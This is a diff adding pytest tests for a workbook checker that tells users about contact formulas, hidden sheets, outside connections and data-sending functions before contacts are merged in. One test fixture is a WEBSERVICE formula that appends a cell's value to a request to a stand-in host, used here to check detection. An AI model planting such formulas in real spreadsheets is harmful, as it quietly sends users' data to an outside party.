@@ -1,0 +1,54 @@
+"""What a user is told of a workbook before contacts may enter it."""
+
+from __future__ import annotations
+
+import pytest
+
+from workbook.merge.exposure import Exposure, looked_at, sentences
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=GETCONTACTS()",
+        '=IFERROR(getcontact(A2,"name"),"")',
+        "=_xll.GETCONTACTS ( )",
+        "=ORG.GREENAPI.CONTACTS.GETCONTACTSINFO()",
+        "=SUM(1)+GetContacts(,,FALSE)",
+    ],
+)
+def test_a_formula_of_ours_is_seen_in_any_spelling(formula: str) -> None:
+    assert looked_at("Data", False, [formula]).ours
+
+
+@pytest.mark.parametrize(
+    "formula", ['="=GETCONTACTS()"', "='GETCONTACTS('!A1", "=MYGETCONTACTS()", "=GETCONTACTS2(1)"]
+)
+def test_what_only_looks_like_a_formula_of_ours_is_none(formula: str) -> None:
+    assert not looked_at("Data", False, [formula]).ours
+
+
+def test_our_formulas_on_a_sheet_that_is_not_shown_are_told() -> None:
+    sheets = (looked_at("Form", False, ["=1"]), looked_at("x", True, ["=GETCONTACTS()"]))
+    assert list(sentences(Exposure(sheets))) == [
+        "Formulas of contacts stand on sheets that are not shown: x."
+    ]
+
+
+def test_functions_that_can_send_data_away_are_told_with_their_sheets() -> None:
+    formulas = ['=_xlfn.WEBSERVICE("https://x.example/"&A1)', '=HYPERLINK("https://x.example")']
+    sheets = (looked_at("Form", False, formulas), looked_at("Data", False, ["=A1"]))
+    assert list(sentences(Exposure(sheets))) == [
+        "HYPERLINK, WEBSERVICE on Form can send what stands in the workbook away."
+    ]
+
+
+def test_connections_to_the_outside_are_counted() -> None:
+    links = {"external link": 2, "connection": 0, "query": 2}
+    assert list(sentences(Exposure(links=links))) == [
+        "The workbook is connected to the outside: 2 external links, 2 queries."
+    ]
+
+
+def test_a_workbook_with_nothing_of_it_needs_no_word() -> None:
+    assert list(sentences(Exposure((looked_at("Sheet1", True, ["=1+1"]),)))) == []
